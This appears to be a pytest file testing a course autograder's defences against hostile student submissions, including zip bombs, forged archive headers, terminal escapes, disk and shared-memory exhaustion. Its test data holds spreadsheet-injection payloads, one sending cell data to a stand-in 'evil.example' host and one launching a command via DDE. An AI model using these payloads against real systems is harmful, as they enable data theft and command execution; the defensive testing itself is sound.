"""What a submission writes cannot hurt the grader, the instructor or a classmate: a result that
unpacks to gigabytes, a line of deeply nested JSON, an escape sequence in an error message, a
spreadsheet formula, a scratch folder filled to the brim; and a careless notebook (saved in
Latin-1, metadata mangled by an editor) is read, not scored 0."""

from __future__ import annotations

import base64
import io
import json
import os
import platform
import sys
from pathlib import Path

import nbformat
import numpy as np
import pytest

from tests.scripts import load_script

ROOT = Path(__file__).resolve().parent.parent
sys.path.insert(0, str(ROOT / "tools" / "grading"))

import plain  # noqa: E402
import sandbox  # noqa: E402

MASTER = ROOT / "notebooks" / "02_conditioning.ipynb"


grade = load_script(Path("tools/grade.py"))


def _message(save, **arrays) -> dict:
    buf = io.BytesIO()
    save(buf, **arrays)
    return {"tree": {"t": "ndarray", "k": "a0"}, "npz": base64.b64encode(buf.getvalue()).decode()}


def test_a_compressed_result_is_refused_before_it_is_unpacked():
    """A compressed archive of zeros: 10 MB of zeros in 10 kB. The grader reads only stored
    members, which are never larger than the message."""
    bomb = _message(np.savez_compressed, a0=np.zeros(10**7, dtype=np.uint8))
    assert len(bomb["npz"]) < 100_000
    with pytest.raises(ValueError, match="compressed members"):
        plain.from_message(bomb)
    honest = plain.to_message(*plain.encode((np.arange(3.0), {"w": np.ones((2, 2))})))
    out = plain.from_message(honest)
    assert np.array_equal(out[0], np.arange(3.0)) and np.array_equal(out[1]["w"], np.ones((2, 2)))


def test_an_archive_whose_members_claim_more_than_it_holds_is_refused():
    good = _message(np.savez, a0=np.arange(1000.0))
    raw = bytearray(base64.b64decode(good["npz"]))
    # the central directory's uncompressed size of the member (offset 24 in its header)
    at = raw.rfind(b"PK\x01\x02")
    raw[at + 24 : at + 28] = (10**9).to_bytes(4, "little")
    forged = {**good, "npz": base64.b64encode(bytes(raw)).decode()}
    with pytest.raises(ValueError, match="malformed archive"):
        plain.from_message(forged)
    with pytest.raises(ValueError, match="malformed archive"):
        plain.from_message({**good, "npz": base64.b64encode(b"not a zip").decode()})


def test_result_lines_are_parsed_defensively():
    lines = [
        json.dumps({"event": "cell", "grade_id": "a", "status": "error", "error": "x" * 10_000}),
        "[" * 200_000,  # a RecursionError in json.loads, not a ValueError
        "not json",
        "[1, 2]",
        json.dumps({"event": "cell", "grade_id": ["not", "text"], "status": "error"}),
        json.dumps({"event": "done"}),
    ]
    records = sandbox.parse_records("\n".join(lines).encode())
    assert [r["event"] for r in records] == ["cell", "cell", "done"]
    assert len(records[0]["error"]) == sandbox.MAX_TEXT
    assert isinstance(records[1]["grade_id"], str)


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("\x1b[2K\x1b[Gzed        8/8  graded", "\\x1b[2K\\x1b[Gzed        8/8  graded"),
        ("bob\r0/8", "bob\\r0/8"),
        ("two\nlines", "two\\nlines"),
        ("abc\u202edcba", "abc\\u202edcba"),  # a right-to-left override
        ('=HYPERLINK("https://evil.example/?"&A2,"details")', "'=HYPERLINK(\"https://evil."),
        ("+1+cmd|' /C calc'!A0", "'+1+cmd"),
        ("-2", "'-2"),
        ("@SUM(A1)", "'@SUM"),
        ("ch02_clip_by_norm: wrong values – café", "ch02_clip_by_norm: wrong values – café"),
    ],
)
def test_texts_from_a_submission_are_safe_on_a_terminal_and_in_a_spreadsheet(text, shown):
    safe = grade.safe_text(text)
    assert safe.startswith(shown)
    assert not any(ord(c) < 32 or 127 <= ord(c) < 160 or 0x202A <= ord(c) <= 0x202E for c in safe)


def _submission_bytes(encoding: str) -> bytes:
    nb = nbformat.v4.new_notebook()
    nb.cells = [nbformat.v4.new_code_cell("# Grüße, café\nx = 1")]
    return nbformat.writes(nb).encode(encoding)


def test_a_notebook_saved_in_latin1_is_read_with_a_note():
    nb, notes = grade._read_notebook(_submission_bytes("cp1252"))
    assert "café" in nb.cells[0].source
    assert notes and "not UTF-8" in notes[0] and "cp1252" in notes[0]
    nb, notes = grade._read_notebook(b"\xef\xbb\xbf" + _submission_bytes("utf-8"))  # with a BOM
    assert "café" in nb.cells[0].source and notes == []
    with pytest.raises(ValueError, match="not a valid notebook"):
        grade._read_notebook(b"\x00\x01binary")


def test_malformed_cell_metadata_is_ignored_and_nbgrader_metadata_restored():
    release = nbformat.read(MASTER, as_version=4)
    nb = nbformat.read(MASTER, as_version=4)
    k, cell = next(
        (k, c)
        for k, c in enumerate(nb.cells)
        if c.metadata.get("nbgrader", {}).get("grade_id") == "ch02_clip_by_norm_solution"
    )
    cell.metadata["nbgrader"] = "oops"  # an editor (or a student) wrote a string here
    nb.cells[0]["metadata"] = ["not", "a", "dict"]
    notes = grade._repair(nb, release)
    assert f"note: ignored malformed metadata of cell {k + 1}" in notes
    assert "note: ignored malformed metadata of cell 1" in notes
    assert any("restored nbgrader metadata of ch02_clip_by_norm_solution" in n for n in notes)
    assert cell.metadata["nbgrader"]["grade_id"] == "ch02_clip_by_norm_solution"


FILL = """
import os
written = 0
try:
    while written < (1 << 30):
        with open(f"junk{written}", "wb") as fh:
            fh.write(b"0" * (16 << 20))
        written += 16 << 20
except OSError as err:
    stopped_by = err.errno
n = written
"""


def test_the_sandbox_scratch_folder_is_capped():
    """/tmp/work is memory (a tmpfs) that no process limit counts: without a cap it holds half
    the machine's RAM, and two sandboxes side by side could pin all of it."""
    import cloudpickle

    job = {
        "exercise": "fill", "kind": "value", "var": "n", "preamble": [],
        "cells": [("fill_cell", FILL)], "references": [], "cases": [],
        "cell_limit": 20.0, "time_limit": 5.0, "process_limit": 16,
    }  # fmt: skip
    result = sandbox.run(cloudpickle.dumps(job), sandbox.Limits(wall=60))
    values = [r for r in result.records if r.get("event") == "value"]
    assert result.status == "ok" and len(values) == 1, (result.status, result.records)
    written = plain.from_message(values[0]["result"])
    assert 0 < written <= sandbox.SCRATCH_BYTES


def test_the_oom_killer_takes_a_sandbox_before_the_grader():
    """RLIMIT_AS is per process and a cell may fork up to the process limit, so a sandbox can
    still exhaust the machine; its processes are then the OOM killer's first choice."""
    import cloudpickle

    job = {
        "exercise": "oom", "kind": "value", "var": "n", "preamble": [],
        "cells": [("c", "n = int(open('/proc/self/oom_score_adj').read())")],
        "references": [], "cases": [], "cell_limit": 5.0, "time_limit": 5.0,
        "process_limit": 16,
    }  # fmt: skip
    result = sandbox.run(cloudpickle.dumps(job), sandbox.Limits(wall=30))
    values = [r for r in result.records if r.get("event") == "value"]
    assert result.status == "ok" and len(values) == 1, (result.status, result.records)
    assert plain.from_message(values[0]["result"]) == 1000


SHARED_MEMORY = """
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
refused = []
if libc.shmget(0, 1 << 20, 0o1000 | 0o600) == -1:  # IPC_PRIVATE, IPC_CREAT
    refused.append(("shmget", ctypes.get_errno()))
try:
    os.memfd_create("held")
except PermissionError:
    refused.append(("memfd_create", 1))
pid = os.fork()  # a child inherits the filter
if pid == 0:
    os._exit(0 if libc.shmget(0, 1 << 20, 0o1000 | 0o600) == -1 else 1)
refused.append(("child", os.waitstatus_to_exitcode(os.waitpid(pid, 0)[1])))
import numpy as np
refused.append(("numpy", float(np.ones(3) @ np.ones(3))))
"""


def test_memory_that_no_limit_counts_is_refused_in_the_sandbox():
    """A System V shared-memory segment, filled and detached, belongs to no process: a hostile
    cell held 6 GB that way until the grader exited. The harness's seccomp filter refuses it
    (and memfd files) in the sandbox and in its children, while numpy works as usual."""
    import cloudpickle
    import syscalls

    if platform.machine() not in syscalls.ARCHES:
        pytest.skip(f"no filter for {platform.machine()}")
    job = {
        "exercise": "shm", "kind": "value", "var": "refused", "preamble": [],
        "cells": [("c", SHARED_MEMORY)], "references": [], "cases": [], "cell_limit": 10.0,
        "time_limit": 5.0, "process_limit": 16,
    }  # fmt: skip
    result = sandbox.run(cloudpickle.dumps(job), sandbox.Limits(wall=30))
    values = [r for r in result.records if r.get("event") == "value"]
    assert result.status == "ok" and len(values) == 1, (result.status, result.records)
    got = [tuple(x) for x in plain.from_message(values[0]["result"])]
    assert got == [("shmget", 1), ("memfd_create", 1), ("child", 0), ("numpy", 3.0)], got


def test_a_grading_process_that_dies_takes_only_its_own_student(monkeypatch, tmp_path):
    """Each student is graded in a process of its own. When one dies (SIGKILL, as from the OOM
    killer), it is graded once more; a student whose process dies twice gets a row that says
    so, and everyone else is graded as usual (a shared process pool failed them all)."""
    import signal

    def fake_grade_one(task):
        student = task[0].student
        (tmp_path / f"{student}.{os.getpid()}").touch()
        tries = len(list(tmp_path.glob(f"{student}.*")))
        if student == "crasher" or (student == "unlucky" and tries == 1):
            os.kill(os.getpid(), signal.SIGKILL)
        return {
            "student": student,
            "status": "graded",
            "score": 1.0,
            "reason": "",
            "big": "x" * 10**6,
        }

    monkeypatch.setattr(grade, "_grade_one", fake_grade_one)
    names = ["ann", "crasher", "bob", "unlucky", "cid", "dee"]
    rows: list[dict] = []
    grade._grade_in_processes(
        [(grade.Submission(n), [], None, {}, 0.0) for n in names], 2, rows.append
    )

    by_name = {r["student"]: r for r in rows}
    assert sorted(by_name) == sorted(names) and len(rows) == len(names)
    for name in ("ann", "bob", "cid", "dee", "unlucky"):
        assert by_name[name]["status"] == "graded" and by_name[name]["score"] == 1.0, name
        assert len(by_name[name]["big"]) == 10**6  # a row larger than a pipe's buffer
    crashed = by_name["crasher"]
    assert crashed["status"] == "not graded" and crashed["score"] == 0.0
    assert "died twice" in crashed["reason"] and "SIGKILL" in crashed["reason"]
    tries = {n: len(list(tmp_path.glob(f"{n}.*"))) for n in names}
    assert tries == {"ann": 1, "crasher": 2, "bob": 1, "unlucky": 2, "cid": 1, "dee": 1}


def test_gradebook_texts_are_cut_to_their_caps():
    """A reason can quote what a submission returned (a 10**6-character string): each item is
    cut to MAX_ITEM and a gradebook cell to MAX_CELL, below a spreadsheet's 32 767."""
    assert grade._cut("short", 10) == "short"
    cut = grade._cut("z" * 10**6, grade.MAX_ITEM)
    assert len(cut) == grade.MAX_ITEM and cut.endswith(" …(cut)")
    joined = " | ".join(grade._cut("z" * 10**6, grade.MAX_ITEM) for _ in range(100))
    assert len(grade._cut(joined, grade.MAX_CELL)) == grade.MAX_CELL < 32_767


def test_the_exercise_sandbox_hides_the_original_fashion_mnist_files():
    """Both sandboxes mount an empty tmpfs over the dataset folder (where it exists)."""
    command = sandbox.command()
    for folder in sandbox.hidden_data():
        k = command.index(folder)
        assert command[k - 1] == "--tmpfs"
    if os.path.isdir("/usr/share/datasets"):
        assert "/usr/share/datasets" in sandbox.hidden_data()


def test_a_challenge_value_that_verify_cannot_check_costs_only_that_exercise():
    """``verify`` is library code run on a value the learner chose; when it raises on a value
    of a shape it never expected, that challenge scores 0 with the reason, and the grader goes
    on (it used to fail the whole notebook). A value ``verify`` can check is scored as usual."""
    import dataclasses

    import engine

    from dlnotes.exercises import get

    ex = get("ch02_lr_challenge")
    spec = {"name": ex.name, "kind": "value", "solution_id": f"{ex.name}_solution", "var": "lr"}

    def graded(value, exercise=ex):
        message = plain.to_message(*plain.encode(value))
        result = sandbox.Result(records=[{"event": "value", "result": message}])
        g = engine.ExerciseGrade(ex.name, 1.0)
        engine._score(g, spec, exercise, result)
        return g

    def broken(value):
        raise IndexError("too many indices for array: array is 0-dimensional")

    g = graded(np.array(0.5), dataclasses.replace(ex, verify=broken))
    assert g.score == 0.0
    assert g.reasons == [f"{ex.name}: the value array(0.5) could not be checked (IndexError); 0/1"]
    right = graded(ex.solution)
    assert right.score == 1.0 and right.reasons == []
    wrong = graded(50.0)
    assert wrong.score == 0.0 and "diverged" in wrong.reasons[0]


def test_a_zip_bomb_is_read_only_up_to_the_cap(tmp_path, monkeypatch):
    """A submitted zip whose notebook unpacks to more than the cap is refused while it unpacks
    (never read whole into the grader's memory); its classmate is read as usual."""
    monkeypatch.setattr(grade, "MAX_NOTEBOOK_BYTES", 1 << 20)
    import zipfile

    unpacked = [0]  # bytes of the member the grader unpacked
    real_open = zipfile.ZipFile.open

    def counting_open(self, *args, **kwargs):
        handle = real_open(self, *args, **kwargs)
        read = handle.read

        def read_counted(n=-1):
            data = read(n)
            unpacked[0] += len(data)
            return data

        handle.read = read_counted
        return handle

    monkeypatch.setattr(zipfile.ZipFile, "open", counting_open)
    with zipfile.ZipFile(tmp_path / "bomber.zip", "w", zipfile.ZIP_DEFLATED) as zf:
        zf.writestr(MASTER.name, b" " * (64 << 20))  # 64 MiB of spaces, about 64 kB zipped
    (tmp_path / "honest").mkdir()
    (tmp_path / "honest" / MASTER.name).write_bytes(MASTER.read_bytes())
    subs = {s.student: s for s in grade.collect(tmp_path, [MASTER.name])}
    assert (tmp_path / "bomber.zip").stat().st_size < 1 << 20
    assert unpacked[0] <= (1 << 20) + 1
    assert any("larger than 1 MiB; not graded" in p for p in subs["bomber"].problems)
    assert MASTER.name not in subs["bomber"].notebooks
    assert subs["honest"].notebooks[MASTER.name] == MASTER.read_bytes()


def test_a_notebook_file_over_the_cap_is_not_read(tmp_path, monkeypatch):
    monkeypatch.setattr(grade, "MAX_NOTEBOOK_BYTES", 1000)
    (tmp_path / "big").mkdir()
    (tmp_path / "big" / MASTER.name).write_bytes(b" " * 1001)
    (tmp_path / f"loose_{MASTER.name}").write_bytes(b" " * 1001)
    subs = {s.student: s for s in grade.collect(tmp_path, [MASTER.name])}
    for student in ("big", "loose"):
        assert subs[student].notebooks == {}, student
        assert any("larger than" in p for p in subs[student].problems), student


def test_a_zip_of_many_large_notebooks_is_read_only_up_to_the_students_total(tmp_path, monkeypatch):
    """Thirty notebooks each just under the cap, in a 6 KB zip, held 2 GB before anyone was
    graded: one student's notebooks are read up to MAX_SUBMISSION_BYTES in all, the rest are
    refused as they unpack, and a zip that lists too many files is not opened."""
    import zipfile

    monkeypatch.setattr(grade, "MAX_NOTEBOOK_BYTES", 1000)
    monkeypatch.setattr(grade, "MAX_SUBMISSION_BYTES", 2500)
    with zipfile.ZipFile(tmp_path / "mallory.zip", "w", zipfile.ZIP_DEFLATED) as zf:
        for k in range(30):
            zf.writestr(f"part{k:03d}/{MASTER.name}", b" " * 999)
    monkeypatch.setattr(grade, "MAX_ZIP_ENTRIES", 50)
    with zipfile.ZipFile(tmp_path / "lister.zip", "w") as zf:
        for k in range(51):
            zf.writestr(f"f{k}.txt", b"")
    subs = {s.student: s for s in grade.collect(tmp_path, [MASTER.name])}
    problems = subs["mallory"].problems
    assert sum("not read, past" in p for p in problems) == 28, problems
    assert any("lists more than 50 files; not read" in p for p in subs["lister"].problems)


def test_a_folder_and_a_zip_of_one_student_do_not_replace_each_other(tmp_path):
    """``bob/`` and ``bob.zip`` holding different copies of one notebook: the folder's is graded
    and the other is named, instead of the zip's silently taking its place."""
    import zipfile

    (tmp_path / "bob").mkdir()
    (tmp_path / "bob" / MASTER.name).write_bytes(MASTER.read_bytes())
    with zipfile.ZipFile(tmp_path / "bob.zip", "w") as zf:
        zf.writestr(MASTER.name, b"{}")
    (sub,) = grade.collect(tmp_path, [MASTER.name])
    assert sub.notebooks[MASTER.name] == MASTER.read_bytes()
    assert any(f"bob.zip also holds {MASTER.name}" in p for p in sub.problems), sub.problems


_FIRST_CALL = """
import json, sys
sys.path.insert(0, {grading!r})
import harness
import nbformat
from dlnotes.exercises import get

nb = nbformat.read({master!r}, as_version=4)
(answer,) = [
    c.source for c in nb.cells
    if c.metadata.get("nbgrader", {{}}).get("grade_id") == "ch15_torch_port_solution"
]
ex = get("ch15_torch_port")
records = []
job = {{
    "preamble": ["import torch", "import torch.nn.functional as F"],
    "cells": [("ch15_torch_port_solution", answer)],
    "var": "torch_train",
    "kind": "function",
    "references": [],
    "cases": ex.cases("visible")[:2],
    "cell_limit": 10.0,
    "time_limit": {limit},
}}
harness.run(job, records.append)
print(json.dumps([r.get("status") for r in records if r.get("event") == "case"]))
"""


@pytest.mark.slow
def test_torchs_first_optimizer_is_not_paid_by_the_first_cases_time_limit():
    """torch imports torch._dynamo when it builds its first optimizer (1.3 s on an idle machine):
    on a busy one a right ch15_torch_port timed out on its first case, and its later cases
    failed at `torch.optim.SGD` in the import the time-out had interrupted. The harness pays it
    with the imports; a right answer's cases take milliseconds."""
    import subprocess

    script = _FIRST_CALL.format(
        grading=str(ROOT / "tools" / "grading"),
        master=str(ROOT / "notebooks" / "15_frameworks.ipynb"),
        limit=1.0,
    )
    env = {**os.environ, "OMP_NUM_THREADS": "1", "OPENBLAS_NUM_THREADS": "1"}
    proc = subprocess.run(
        [sys.executable, "-c", script], capture_output=True, text=True, env=env, timeout=300
    )
    assert proc.returncode == 0, proc.stderr[-2000:]
    assert json.loads(proc.stdout.splitlines()[-1]) == ["ok", "ok"], proc.stdout[-2000:]
